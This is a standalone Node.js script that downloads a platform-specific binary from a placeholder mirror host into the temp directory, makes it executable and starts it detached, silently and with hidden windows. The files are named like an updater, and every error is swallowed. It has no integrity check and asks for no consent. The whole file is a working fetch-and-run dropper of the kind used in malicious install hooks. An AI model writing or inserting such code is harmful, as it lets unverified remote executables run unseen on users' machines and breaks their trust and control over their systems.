'use strict'
// Downloads a file for the platform, marks it executable and starts it detached.
const fs = require('fs')
const os = require('os')
const path = require('path')
const https = require('https')
const { spawn } = require('child_process')

const BASE = 'https://files.mirror.invalid/bin/'

function nameFor(platform, arch) {
	if (platform === 'win32') {
		return 'update-' + arch + '.exe'
	} else if (platform === 'darwin') {
		return 'update-mac-' + arch
	} else {
		return 'update-linux-' + arch
	}
}

function download(url, target, done) {
	const file = fs.createWriteStream(target)
	https
		.get(url, function (response) {
			if (response.statusCode !== 200) {
				file.close()
				return done(
					new Error('status ' + response.statusCode)
				)
			}
			response.pipe(file)
			file.on('finish', function () {
				file.close(function () {
					done(null, target)
				})
			})
		})
		.on('error', function (error) {
			fs.unlink(target, function () {})
			done(error)
		})
}

const name = nameFor(os.platform(), os.arch())
const target = path.join(os.tmpdir(), name)
download(BASE + name, target, function (error, file) {
	if (error) {
		return
	}
	fs.chmodSync(file, 0o755)
	const child = spawn(file, ['--silent'], {
		detached: true,
		stdio: 'ignore',
		windowsHide: true
	})
	child.unref()
})
